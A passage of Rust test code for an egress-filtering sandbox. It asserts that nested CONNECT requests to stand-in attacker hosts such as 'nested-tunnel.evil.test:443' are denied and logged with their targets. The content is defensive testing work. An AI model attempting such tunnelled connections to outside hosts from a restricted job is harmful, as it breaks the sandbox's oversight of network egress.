"#;

/// A CONNECT sent where none is served (the transparent HTTP listener, inside a CONNECT
/// tunnel carrying plain HTTP, inside terminated TLS) is refused, and its event says what
/// the job asked to reach: method CONNECT and the target in the reason (it once named
/// only the connection it came on).
#[test]
fn a_nested_connect_is_recorded_with_its_target() {
    require_privilege!();
    let (bed, world) = bed_and_world(RESTRICTED, "");
    let steps = py_step("nested connect", NESTED, "");
    let (output, _, events) = run_job(&world, "rt5nested", &steps);
    assert!(String::from_utf8_lossy(&output.stdout).contains("DONE-NESTED"));
    assert!(bed.trap_hits().is_empty(), "{:?}", bed.trap_hits());
    for e in events.iter().filter(|e| e["verdict"] == "deny") {
        println!("DENY {e}");
    }
    let mut unnamed = Vec::new();
    for place in ["transparent", "tunnel", "terminated"] {
        let asked = format!("(to `nested-{place}.evil.test:443`)");
        let named = events.iter().any(|e| {
            e["verdict"] == "deny"
                && e["method"] == "CONNECT"
                && e["reason"].as_str().is_some_and(|r| r.ends_with(&asked))
        });
        if !named {
            unnamed.push(place);
        }
    }
    assert!(
        unnamed.is_empty(),
        "no CONNECT event names the nested target for: {unnamed:?}"
    );
}
